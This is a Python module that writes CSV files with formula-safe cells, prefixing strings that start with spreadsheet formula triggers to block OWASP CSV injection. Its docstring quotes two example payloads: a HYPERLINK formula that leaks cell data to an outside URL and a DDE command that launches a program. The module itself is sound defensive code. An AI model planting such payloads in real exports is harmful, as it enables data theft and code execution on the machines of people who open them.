"""The one CSV writer of the project: formula-safe cells (OWASP CSV injection).

A spreadsheet that opens a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1)`` leaks
data, ``+cmd|' /C calc'!A0`` runs a program (DDE). Every CSV the project writes (the i2 export of the
service, the per-pair and per-bullet benchmark tables) goes through :func:`write_rows_csv` (a file) or
:func:`csv_text` (the text, for a download), which neutralise such cells as OWASP recommends: a single
quote is put in front, so the spreadsheet shows the text as typed and evaluates nothing.

Numbers stay numbers: an ``int`` / ``float`` (numpy numbers included) is written as is, so ``-0.5``
stays the number -0.5. A *string* is left alone only when it is one plain decimal number literal
(``-0.5``, ``+3``, ``-1e-3``): a spreadsheet reads such a cell as that constant and nothing else. Any
other string whose first non-blank character is a trigger is prefixed (``-1+1``, ``@SUM(1)``,
``  =1``; full-width ``＝＋－＠`` too, which some locales treat as formula starts).
"""
from __future__ import annotations

import csv
import io
import itertools
import numbers
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

from ballistic.errors import InputError
from ballistic.io.atomic import atomic_write_bytes

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "csv_text", "write_rows_csv"]

#: first characters that make a spreadsheet read a cell as a formula (OWASP), plus their full-width forms
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER_LITERAL = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """The cell to write for ``value``: numbers unchanged, formula-like strings prefixed with ``'``.

    Parameters
    ----------
    value : any
        A cell. ``None`` becomes ``""``; numbers (``bool``, ``int``, ``float``, numpy scalars, Decimal)
        are returned unchanged; anything else is turned into ``str``.

    Returns
    -------
    str or number
        ``"'" + text`` when the text, after leading whitespace, starts with one of
        :data:`FORMULA_TRIGGERS` and is not a plain number literal; otherwise the value itself.
    """
    if value is None:
        return ""
    if isinstance(value, numbers.Number):
        return value
    text = str(value)
    if text.startswith(("\t", "\r")):
        return "'" + text
    head = text.lstrip()
    if head.startswith(FORMULA_TRIGGERS) and not _NUMBER_LITERAL.fullmatch(head):
        return "'" + text
    return text


Rows = Iterable[Mapping[str, Any] | Sequence[Any]]


def _rows(rows: Rows, columns: Sequence[str] | None) -> tuple[list[str] | None, Iterator[list[Any]]]:
    """(columns or None, cell lists) of dict or sequence rows."""
    it = iter(rows)
    first = next(it, None)
    cols = list(columns) if columns is not None else None
    if first is None:
        return cols, iter(())
    if not isinstance(first, Mapping):
        return cols, (list(r) for r in itertools.chain([first], it))
    select = cols is not None
    cols = cols if select else list(first.keys())
    known = set(cols)

    def cells() -> Iterator[list[Any]]:
        for i, r in enumerate(itertools.chain([first], it)):
            if not select and not known.issuperset(r):
                raise InputError(f"row {i} has fields the first row has not: {sorted(set(r) - known)}; pass "
                                 "columns=[...] to choose the columns")
            yield [r.get(c, "") for c in cols]

    return cols, cells()


def csv_text(rows: Rows, *, columns: Sequence[str] | None = None, lineterminator: str = "\r\n") -> str:
    """CSV text of ``rows`` (dicts or sequences), header first when there are columns; every cell,
    header included, passes through :func:`neutralise_cell`.

    Parameters
    ----------
    rows : iterable of mappings or sequences
        Dict rows are written in ``columns`` order; a missing key is an empty cell.
    columns : sequence of str, optional, keyword-only
        The columns, in order; keys of a dict row that are not listed are left out. Default: the keys of
        the first dict row (a later row with other keys raises :class:`~ballistic.errors.InputError`);
        sequence rows without ``columns`` are written without a header.
    lineterminator : str, keyword-only
        Line ending (RFC 4180: CRLF).

    Returns
    -------
    str
    """
    cols, body = _rows(rows, columns)
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=lineterminator)
    if cols is not None:
        w.writerow([neutralise_cell(c) for c in cols])
    for r in body:
        w.writerow([neutralise_cell(v) for v in r])
    return buf.getvalue()


def write_rows_csv(rows: Rows, path: str | Path, *, columns: Sequence[str] | None = None) -> Path:
    """Write :func:`csv_text` of ``rows`` to ``path`` (UTF-8, atomically, formula-safe); returns the path.

    Parameters
    ----------
    rows : iterable of mappings or sequences
        One dict per row (or one sequence of cells per row, with ``columns`` for a header).
    path : str or os.PathLike
        Destination file (replaced atomically); its folder is created when missing.
    columns : sequence of str, optional, keyword-only
        The columns, in order; keys of a row that are not listed are left out.
        Default: the keys of the first row.

    Returns
    -------
    pathlib.Path
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    return atomic_write_bytes(path, csv_text(rows, columns=columns).encode("utf-8"))
